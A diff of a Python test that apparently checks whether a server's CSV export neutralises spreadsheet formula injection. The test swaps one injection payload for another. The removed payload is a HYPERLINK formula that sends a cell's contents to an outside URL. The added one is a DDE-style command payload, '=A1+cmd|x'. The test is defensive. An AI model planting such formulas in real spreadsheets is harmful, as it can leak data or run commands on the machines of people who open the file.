@@ -227,7 +227,7 @@ class Private(LossTest):
 
     def test_no_cell_is_a_formula(self):
         folder = self.place / "csv"
-        formula = '=HYPERLINK("http://example.org/?"&A1)'.replace(" ", "")
+        formula = "=A1+cmd|x"
         with Server("--archive", self.archive, "--archive-csv", folder) as server:
             send(server.port, 1, formula)
         file, = folder.glob("*.csv")
